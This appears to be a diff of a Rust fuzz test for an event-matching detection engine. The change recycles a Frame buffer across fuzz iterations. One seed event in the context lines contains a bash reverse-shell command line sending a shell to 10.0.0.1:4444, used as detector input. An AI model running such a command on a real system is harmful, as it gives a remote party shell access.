@@ -191,11 +191,13 @@ fn no_event_text_panics_or_holds_anybody_up() {
         r#"{"category":"process_creation","product":"linux","CommandLine":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#.into(),
     ];
     let good: Vec<Vec<u8>> = good.iter().map(|text| text.as_bytes().to_vec()).collect();
+    let mut kept = Frame::new(&program.names);
     fuzz("event", &good, |input| {
-        let mut frame = Frame::new(&program.names);
+        let mut frame = std::mem::take(&mut kept).recycle_for(&program.names);
         if fill_from_text(&mut frame, &program.names, wanted, input).is_ok() {
             let _either_verdict = judge.matches(&program, &frame, &mut scratch).len();
         }
+        kept = frame.recycle();
         if let Ok(json) = serde_json::from_slice(input)
             && let Ok(event) = Event::from_json(&json, 0)
         {
